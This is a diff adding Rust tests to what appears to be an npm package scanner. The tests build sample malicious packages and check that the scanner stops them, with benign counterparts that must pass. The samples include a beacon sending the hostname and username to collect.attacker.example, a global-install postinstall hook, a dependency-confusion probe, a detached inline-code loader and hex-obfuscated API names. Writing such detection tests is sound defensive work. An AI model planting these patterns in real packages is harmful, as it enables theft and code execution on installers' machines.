@@ -2138,3 +2138,133 @@ fn mail_through_a_mailbox_written_in_the_code_is_stopped() {
         .build();
     assert_allowed(&mailer);
 }
+
+/// A package that names no entry point and has no `index.js` or command is used
+/// by requiring its files by path, which runs them: their top-level code is judged
+/// as code that runs on import. A command-line tool's files (a `bin`, no `main`)
+/// still run only when someone runs the command.
+#[test]
+fn files_of_a_package_without_an_entry_point_run_on_import() {
+    let beacon = "const os = require('os');\nconst https = require('https');\nhttps.get('https://collect.attacker.example/p?h=' + os.hostname() + '&u=' + os.userInfo().username);\n";
+    let library = airlock_test::PackageBuilder::new("orm-helpers", "3.4.2")
+        .without("index.js", Some("main"))
+        .file("lib/writer.js", beacon)
+        .build();
+    let analysis = analyse(&library);
+    assert_stopped(&analysis, &library);
+
+    let tool = airlock_test::PackageBuilder::new("orm-helpers", "3.4.3")
+        .without("index.js", Some("main"))
+        .field("bin", serde_json::json!({ "orm-helpers": "lib/writer.js" }))
+        .file("lib/writer.js", beacon)
+        .build();
+    let analysis = analyse(&tool);
+    assert!(
+        !matches!(
+            verdict(&analysis, &tool),
+            Verdict::Quarantine { .. } | Verdict::Block
+        ),
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// An install script that installs packages globally fetches and runs what it
+/// names, install scripts and all, outside the project: a compromised release's
+/// whole payload can be one such line. Building itself at install is ordinary.
+#[test]
+fn an_install_script_that_installs_globally_is_stopped() {
+    let global = airlock_test::PackageBuilder::new("agent-cli", "2.3.0")
+        .script("postinstall", "npm install -g helper-agent@latest")
+        .build();
+    let analysis = analyse(&global);
+    assert_stopped(&analysis, &global);
+    assert_rule(&analysis, "shell-installs-globally");
+
+    let builds = airlock_test::PackageBuilder::new("agent-cli", "2.3.1")
+        .script("postinstall", "npm run build")
+        .build();
+    assert_allowed(&builds);
+}
+
+/// A version that outranks any internal package's (99.0.0), an install script,
+/// and no repository: a dependency-confusion probe whose payload the sample may
+/// not even show. A high version alone, or with a repository, only informs.
+#[test]
+fn a_dependency_confusion_probe_with_an_install_script_is_stopped() {
+    let probe = airlock_test::PackageBuilder::new("@corp-internal/tsconfig", "99.0.0")
+        .script("postinstall", "node postinstall.js")
+        .file("postinstall.js", "console.log('ok');\n")
+        .build();
+    let analysis = analyse(&probe);
+    assert_stopped(&analysis, &probe);
+    assert_message(&analysis, "dependency-confusion probe's shape");
+
+    let driver = airlock_test::PackageBuilder::new("browser-driver", "142.0.3")
+        .field(
+            "repository",
+            serde_json::json!({ "type": "git", "url": "git+https://forge.example/driver.git" }),
+        )
+        .script("install", "node install.js")
+        .file("install.js", "console.log('ok');\n")
+        .build();
+    assert_allowed(&driver);
+
+    let quiet = airlock_test::PackageBuilder::new("@corp-internal/tsconfig", "99.0.1").build();
+    assert_allowed(&quiet);
+}
+
+/// A detached process that runs code given inline (`node -e …`) outlives the
+/// import that started it, and no file of the package shows what it runs. An
+/// update checker starts a file of its own.
+#[test]
+fn a_detached_process_with_inline_code_at_import_is_stopped() {
+    let source = |arguments: &str| {
+        format!(
+            "const {{ spawn }} = require('child_process');\nconst path = require('path');\nconst payload = Buffer.from(process.argv[2] || '', 'utf8').toString();\nspawn(process.execPath, {arguments}, {{ detached: true, stdio: 'ignore', windowsHide: true }}).unref();\nmodule.exports = {{}};\n"
+        )
+    };
+    let loader = airlock_test::PackageBuilder::new("config-validator", "3.3.1")
+        .file("index.js", source("['-e', payload]"))
+        .build();
+    let analysis = analyse(&loader);
+    assert_stopped(&analysis, &loader);
+    assert_message(&analysis, "detached process that runs code given inline");
+
+    let checker = airlock_test::PackageBuilder::new("config-validator", "3.3.2")
+        .file("index.js", source("[path.join(__dirname, 'check.js')]"))
+        .file("check.js", "module.exports = {};\n")
+        .build();
+    let analysis = analyse(&checker);
+    assert!(
+        !analysis
+            .findings
+            .iter()
+            .any(|finding| finding.message.contains("code given inline")),
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// `require`, `axios` and `post` spelled in hex: code that hides what it calls
+/// from every reader and every search. Hex colours and one stray word are not.
+#[test]
+fn api_names_spelled_in_hex_are_stopped() {
+    let hidden = airlock_test::PackageBuilder::new("pino-writer", "3.4.2")
+        .file(
+            "index.js",
+            "function g(h) { return h.replace(/../g, (m) => String.fromCharCode(parseInt(m, 16))); }\nconst names = [g('72657175697265'), g('6178696f73'), g('706f7374')];\nmodule.exports = names;\n",
+        )
+        .build();
+    let analysis = analyse(&hidden);
+    assert_stopped(&analysis, &hidden);
+    assert_message(&analysis, "spells the names of what it calls in hex");
+
+    let colours = airlock_test::PackageBuilder::new("palette-hex", "1.0.0")
+        .file(
+            "index.js",
+            "module.exports = { white: 'ffffff', black: '000000', accent: 'c0ffee', word: '706f7374', id: 'deadbeef' };\n",
+        )
+        .build();
+    assert_allowed(&colours);
+}
